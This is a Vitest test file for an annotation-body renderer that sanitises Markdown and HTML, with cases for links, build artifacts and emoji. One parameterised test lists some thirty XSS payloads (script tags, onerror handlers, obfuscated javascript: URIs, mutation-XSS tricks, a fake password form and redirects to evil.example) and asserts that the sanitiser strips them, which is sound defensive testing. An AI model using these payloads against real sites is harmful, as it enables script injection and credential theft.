import { describe, expect, it } from 'vitest'
import { renderBody } from './render.ts'

describe('the body of an annotation', () => {
  it('is Markdown with tables, code, lists and links', () => {
    const html = renderBody(
      '# Hi\n\n**bold** [site](https://example.com)\n\n| a |\n|---|\n| 1 |\n\n```js\nx < 1\n```\n\n- [x] done\n- [ ] open',
    )
    expect(html).toContain('<h1>Hi</h1>')
    expect(html).toContain('<strong>bold</strong>')
    expect(html).toContain('<a href="https://example.com" rel="nofollow noopener noreferrer">site</a>')
    expect(html).toContain('<td>1</td>')
    expect(html).toContain('<code class="language-js">x &lt; 1')
    expect(html).toContain('☑ done')
    expect(html).toContain('☐ open')
  })

  it('may be HTML', () => {
    const html = '<details open><summary>Logs</summary><pre>ok</pre></details>'
    expect(renderBody(html)).toBe('<details open><summary>Logs</summary><pre>ok</pre></details>')
    expect(renderBody('<img src="https://example.com/a.png" alt="a">')).toContain(
      '<img src="https://example.com/a.png" alt="a"',
    )
  })

  it('may name artifacts of the build', () => {
    expect(renderBody('[log](artifact://log/a.txt)')).toContain('<a href="artifact://log/a.txt"')
    expect(renderBody('<img src="artifact://a.png" alt="a">')).toContain(
      '<img src="artifact://a.png" alt="a"',
    )
    expect(renderBody('<a href="artifacts://a">x</a>')).not.toContain('href')
  })

  it.each([
    ['a script', '<script>alert(1)</script>'],
    ['a script in capitals', '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>'],
    ['a script split over tags', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
    ['an event handler', '<img src=x onerror=alert(1)>'],
    ['an event handler without spaces', '<img/src=x/onerror=alert(1)>'],
    ['an event handler on an allowed tag', '<details open ontoggle="alert(1)">x</details>'],
    ['a javascript: link', '<a href="javascript:alert(1)">x</a>'],
    ['a javascript: link in Markdown', '[x](javascript:alert(1))'],
    ['a javascript: link in disguise', '[x](jAvAsCrIpT&#58;alert(1))'],
    ['a javascript: link with control characters', '<a href="java\tscript:alert(1)">x</a>'],
    ['a javascript: link with entities', '<a href="&#x6A;avascript&colon;alert(1)">x</a>'],
    ['a vbscript: link', '<a href="vbscript:msgbox(1)">x</a>'],
    ['a data: link', '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
    ['a data: image', '<img src="data:image/svg+xml,<svg onload=alert(1)>">'],
    ['an autolink to a script', '<javascript:alert(1)>'],
    ['a style attribute', '<p style="background:url(https://evil.example)">x</p>'],
    ['a style sheet', '<style>body { display: none }</style>'],
    ['a linked style sheet', '<link rel=stylesheet href=https://evil.example/x.css>'],
    ['a frame', '<iframe src="https://evil.example"></iframe>'],
    ['a frame with a document', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
    ['an object', '<object data="https://evil.example/x.swf"></object>'],
    ['an embed', '<embed src="https://evil.example/x.swf">'],
    ['a vector drawing', '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)">x</a></svg>'],
    ['mathematics', '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>'],
    ['a form', '<form action="https://evil.example"><input name=password><button>Sign in</button></form>'],
    ['a redirect', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
    ['a base address', '<base href="https://evil.example/">'],
    ['a name the page may stumble over', '<a id="location" name="config" href="https://example.com">x</a>'],
    ['a template', '<template><script>alert(1)</script></template>'],
    [
      'hidden text that turns into a script',
      '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    ],
    ['a comment that ends early', '<!--><img src=x onerror=alert(1)>-->'],
    ['a link that leaves out the protocol', '<a href="//evil.example">x</a>'],
    ['a class of our own pages', '<div class="modal">x</div>'],
  ])('cannot hold %s (abuse case 11)', (_, body) => {
    const tags = [...renderBody(body).matchAll(/<[^>]*>/g)].map(([tag]) => tag).join('')
    expect(tags).not.toMatch(
      /<\/?(script|style|link|iframe|object|embed|svg|math|form|input|button|meta|base|template|noscript)\b/i,
    )
    expect(tags).not.toMatch(/\s(on\w+|style|id|name|srcdoc|class)\s*=/i)
    expect(tags).not.toMatch(/javascript|vbscript|data:|\/\/evil/i)
  })

  it('is shown as it was written when it nests deeper than the stack', () => {
    expect(renderBody('> '.repeat(10_000)).slice(0, 9)).toBe('<pre>&gt;')
  })
})

describe('emoji in the body of an annotation', () => {
  it.each([
    [':tada: done', '<p>🎉 done</p>\n'],
    [':rocket::+1:', '<p>🚀👍</p>\n'],
    ['**:white_check_mark:**', '<p><strong>✅</strong></p>\n'],
    ['<div title=":tada:">:tada:</div>', '<div>🎉</div>'],
    [':no-such-emoji: :constructor:', '<p>:no-such-emoji: :constructor:</p>\n'],
    ['12:100:30 a:tada:', '<p>12:100:30 a:tada:</p>\n'],
    ['`:tada:`', '<p><code>:tada:</code></p>\n'],
    ['<pre><b>:tada:</b></pre> :tada:', '<pre><b>:tada:</b></pre> 🎉'],
    ['[x](https://example.com/:tada:)', expect.stringContaining('href="https://example.com/:tada:"')],
  ])('%s', (body, html) => {
    expect(renderBody(body)).toEqual(html)
  })
})
